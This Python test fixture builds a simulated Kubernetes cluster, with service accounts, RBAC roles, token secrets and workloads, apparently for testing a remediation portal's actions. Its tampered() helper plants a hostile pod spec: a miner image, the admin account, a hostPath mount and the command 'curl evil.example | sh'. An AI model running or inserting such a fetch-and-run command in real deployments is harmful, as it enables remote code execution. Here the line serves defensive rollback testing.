"""The simulated Kubernetes as a target: two accounts with the documented rights, and worlds."""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from ipaddress import ip_address
from pathlib import Path
from typing import Any
from uuid import uuid4

import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from audit.tlog.canonical import Json
from hitlportal.demo.servers.kube import ADMIN, KubeServer
from hitlportal.demo.servers.kube_api import new_token
from hitlportal.demo.servers.kube_cluster import KINDS, Object
from hitlportal.demo.servers.kube_rights import Caller
from hitlportal.demo.servers.ports import LOOPBACK
from remediation.executors.kubernetes_token import ACCOUNT, ACCOUNT_UID, TYPE
from tests.executors.contract import World

CLUSTER = "prod-eu"
HITL = "hitlportal"
DOC = Path(__file__).parents[2] / "docs" / "kubernetes.md"
# What a secret of the tests holds; it must be found nowhere.
PLANTED = "cGxhbnRlZC1pbi1hLXNlY3JldA=="
IMAGE = "registry.example/checkout:1.4.2"
RBAC = "rbac.authorization.k8s.io"


def tampered(template: Object) -> None:
    """Another image and account, a command, a variable, and a path of the node."""
    pod = template["spec"]
    pod["serviceAccountName"] = "admin"
    pod["volumes"] = [{"name": "host", "hostPath": {"path": "/var/lib"}}]
    pod["containers"] = [
        {
            "name": "main",
            "image": "registry.example/miner:1",
            "command": ["sh", "-c", "curl evil.example | sh"],
            "env": [{"name": "POOL", "value": PLANTED}],
        }
    ]


def roles(title: str = "## Least rights") -> list[Object]:
    """Return the roles of both accounts, as docs/kubernetes.md has them under this title."""
    section = DOC.read_text("utf-8").partition(f"\n{title}\n")[2]
    found = re.search(r"```yaml\n(.*?)```", section, re.S)
    assert found is not None
    return list(yaml.safe_load_all(found[1]))


def item(kind: str, name: str, namespace: str = "", **more: Any) -> Object:
    meta: Object = {"name": name, **({"namespace": namespace} if namespace else {})}
    meta |= more.pop("metadata", {})
    return {"kind": kind, "metadata": meta, **more}


def workload(kind: str, name: str, namespace: str, replicas: int = 3, **pod: Any) -> Object:
    labels = {"app": name}
    container = {"name": "main", "image": IMAGE}
    spec: Object = {
        "replicas": replicas,
        "selector": {"matchLabels": labels},
        "template": {
            "metadata": {"labels": {**labels, "tier": "web"}},
            "spec": {"serviceAccountName": name, "containers": [container], **pod},
        },
    }
    return item(kind, name, namespace, spec=spec)


def binding(name: str, namespace: str, role: str, *subjects: Object) -> Object:
    kind, _, named = role.partition("/")
    return item(
        "RoleBinding",
        name,
        namespace,
        roleRef={"apiGroup": RBAC, "kind": kind, "name": named},
        subjects=[*subjects],
    )


def service_account(name: str, namespace: str, **more: Any) -> Object:
    """Return an account with the settings of the catalogue's example."""
    return item(
        "ServiceAccount",
        name,
        namespace,
        metadata={"labels": {"app": "exporter"}, **more},
        automountServiceAccountToken=False,
        imagePullSecrets=[{"name": "registry"}],
    )


def token_secret(name: str, of: Object, **more: Any) -> Object:
    """Return a secret with a token of this account, as the cluster fills it."""
    meta = of["metadata"]
    notes = {ACCOUNT: meta["name"], ACCOUNT_UID: meta["uid"], **more.pop("annotations", {})}
    data = {"token": PLANTED, "namespace": PLANTED}
    metadata = {"annotations": notes, **more.pop("metadata", {})}
    return item("Secret", name, meta["namespace"], metadata=metadata, type=TYPE, data=data, **more)


def account(namespace: str, name: str) -> Object:
    return {"kind": "ServiceAccount", "namespace": namespace, "name": name}


def certified(directory: Path) -> tuple[Path, Path]:
    """Make a certificate for the loopback address that is its own authority, and its key."""
    key = ec.generate_private_key(ec.SECP256R1())
    name, now = x509.Name([]), datetime.now(UTC)
    here = x509.SubjectAlternativeName([x509.IPAddress(ip_address(LOOPBACK))])
    made = (
        x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
        .not_valid_before(now - timedelta(hours=1))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(here, critical=True)
        .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
        .sign(key, hashes.SHA256())
    )
    files = directory / "server.pem", directory / "server.key"
    files[0].write_bytes(made.public_bytes(Encoding.PEM))
    files[1].write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    return files


class KubePlace:
    """The server, and the tokens of the worker's two accounts."""

    def __init__(self, server: KubeServer) -> None:
        self.server, self.api = server, server.api
        self.tokens = {name: new_token() for name in ("observe", "operate")}
        for name, token in self.tokens.items():
            self.api.tokens[token] = Caller.service_account(HITL, f"hitl-{name}")
        self.admin = new_token()
        self.api.tokens[self.admin] = ADMIN
        whole = item(
            "ClusterRoleBinding",
            "hitl-observe",
            roleRef={"apiGroup": RBAC, "kind": "ClusterRole", "name": "hitl-observe"},
            subjects=[account(HITL, "hitl-observe")],
        )
        self.api.add(item("Namespace", HITL), *roles(), whole)

    def rules(self, of: str) -> list[Object]:
        """Return the rules of an account's role, to be changed in place."""
        found: list[Object] = self.api.cluster.get("clusterroles", "", f"hitl-{of}")["rules"]
        return found

    def namespace(self) -> str:
        """Make a namespace in which the operator has the documented role."""
        name = f"n-{uuid4().hex[:10]}"
        operates = binding(
            "hitl-operate", name, "ClusterRole/hitl-operate", account(HITL, "hitl-operate")
        )
        self.api.add(item("Namespace", name), operates)
        return name


class KubeWorld(World):
    """A namespace with a Deployment, a StatefulSet, what leads to them, and a role binding."""

    def __init__(self, action: str, directory: Path, place: KubePlace) -> None:
        self.action, self.directory, self.place = action, directory, place
        self.controller, self.name, self.binding = "deployment", "checkout", "exporter-reads"
        self.account, self.namespace = "exporter", place.namespace()
        self.secret = "exporter-token"
        self.make()
        self.write_operate_token()
        self._begins = len(place.api.requests)

    def make(self) -> None:
        at, verb = self.namespace, self.action.rpartition(".")[2]
        replicas = 0 if verb == "scale_back" else 3
        http = {"paths": [{"path": "/pay", "pathType": "Prefix", "backend": _to("checkout")}]}
        rules = [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]
        subjects = [account(at, "exporter"), {"kind": "Group", "name": "sre", "apiGroup": RBAC}]
        self.place.api.add(
            workload("Deployment", "checkout", at, replicas),
            workload("StatefulSet", "ledger", at, 2),
            item("Service", "checkout", at, spec=_service("checkout")),
            item("Ingress", "shop", at, spec={"rules": [{"host": "pay.example", "http": http}]}),
            item("Role", "reader", at, rules=rules),
        )
        if self.action != "kubernetes.service_account.restore":
            self.place.api.add(service_account("exporter", at))
        if ".token_secret." in self.action:
            self.keep_token()
        if verb == "add_subject":
            subjects = subjects[1:]
        if self.action != "kubernetes.role_binding.restore":
            self.place.api.add(binding(self.binding, at, "Role/reader", *subjects))
        if verb.endswith("_rollout"):
            self.roll_out(verb)
        if verb == "release":
            self.place.api.add(self.policy())

    def keep_token(self) -> None:
        """Add a secret with a token, and the roles that its action needs."""
        of = self.find("serviceaccounts", self.account)
        assert of is not None
        self.place.api.add(token_secret(self.secret, of))
        for role in roles("### One token secret"):
            name = role["metadata"]["name"]
            role["metadata"]["namespace"] = self.namespace
            portals = account(HITL, name.removesuffix("-token"))
            self.place.api.add(role, binding(name, self.namespace, f"Role/{name}", portals))

    def roll_out(self, verb: str) -> None:
        """Tamper with the deployment (revision 2), and give the operator its role."""
        first = copy.deepcopy(self.deployment()["spec"]["template"])
        self.set_template(tampered)
        if verb == "redo_rollout":
            self.set_template(lambda template: template.update(first))
        [role] = roles("### Rollout undo")
        role["metadata"]["namespace"] = self.namespace
        name = role["metadata"]["name"]
        operates = binding(name, self.namespace, f"Role/{name}", account(HITL, "hitl-operate"))
        self.place.api.add(role, operates)

    def deployment(self) -> Object:
        found = self.find("deployments", "checkout")
        assert found is not None
        return found

    def set_template(self, change: Callable[[Object], object]) -> None:
        """Change the template of the deployment, as whoever deploys it does."""
        with self.place.api._lock:
            new = copy.deepcopy(self.deployment())
            change(new["spec"]["template"])
            self.place.api.cluster.replace("deployments", self.namespace, "checkout", new)
            self.place.api.settle()

    def policy(self) -> Object:
        """Return the policy as the portal makes it."""
        return item(
            "NetworkPolicy",
            "hitlportal-deployment-checkout",
            self.namespace,
            metadata={"labels": {"app.kubernetes.io/managed-by": "hitlportal"}},
            spec={
                "podSelector": {"matchLabels": {"app": "checkout"}},
                "policyTypes": ["Ingress", "Egress"],
            },
        )

    def write_operate_token(self) -> None:
        (self.directory / "operate.token").write_text(f"{self.place.tokens['operate']}\n")

    def close(self) -> None:
        with self.place.api._lock:
            self.place.api.cluster.delete("namespaces", "", self.namespace, {})

    @property
    def target(self) -> dict[str, Json]:
        at: dict[str, Json] = {"cluster": CLUSTER, "namespace": self.namespace}
        if ".role_binding." in self.action:
            return {"kind": "kubernetes.role_binding", **at, "binding": self.binding}
        if ".service_account." in self.action:
            return {"kind": "kubernetes.service_account", **at, "name": self.account}
        if ".token_secret." in self.action:
            return {"kind": "kubernetes.token_secret", **at, "name": self.secret}
        named = {"controller": self.controller, "name": self.name}
        return {"kind": "kubernetes.workload", **at, **named}

    @property
    def says_gone(self) -> bool:  # type: ignore[override]
        """The rights on a secret go with its namespace."""
        return ".token_secret." not in self.action

    @property
    def made_anew(self) -> frozenset[str]:  # type: ignore[override]
        removes = self.action == "kubernetes.service_account.remove"
        return frozenset({"uid"}) if removes else frozenset()

    @property
    def gone(self) -> dict[str, Json]:
        if ".workload." not in self.action:  # one that is not there is removed
            return {**self.target, "namespace": f"{self.namespace}-gone"}
        return {**self.target, "name": "gone"}

    @property
    def parameters(self) -> dict[str, Json]:
        found, exporter = super().parameters, f"ServiceAccount:{self.namespace}/exporter"
        if "subjects" in found:
            found["subjects"] = ["Group:sre", exporter]
        if "subject" in found:
            found["subject"] = exporter
        return found

    def toml(self, port: int | None = None) -> str:
        url = self.place.server.url if port is None else f"http://{LOOPBACK}:{port}"
        return (
            f'[kubernetes.{CLUSTER}]\nserver = "{url}"\nsimulated = true\n'
            f'observe_token = "{self.place.tokens["observe"]}"\n'
            'operate_token_file = "operate.token"\n'
        )

    def look(self) -> object:
        """Return every object of the namespace."""
        cluster = self.place.api.cluster
        return copy.deepcopy(
            [each for plural in KINDS for each in cluster.all(plural, self.namespace)]
        )

    def find(self, plural: str, name: str) -> Object | None:
        return self.place.api.cluster.find(plural, self.namespace, name)

    def pods(self, name: str = "checkout") -> list[Object]:
        found = self.place.api.cluster.all("pods", self.namespace)
        return [pod for pod in found if pod["metadata"]["labels"].get("app") == name]

    def changes(self) -> int:
        return len(
            [
                answer
                for request, _, answer in self.place.api.requests[self._begins :]
                if request.method != "GET"
                and f"/{self.namespace}/" in request.path
                and answer.status < 300
            ]
        )


def _to(service: str) -> Object:
    return {"service": {"name": service, "port": {"number": 80}}}


def _service(name: str) -> Object:
    return {"type": "ClusterIP", "selector": {"app": name}, "ports": [{"port": 80}]}
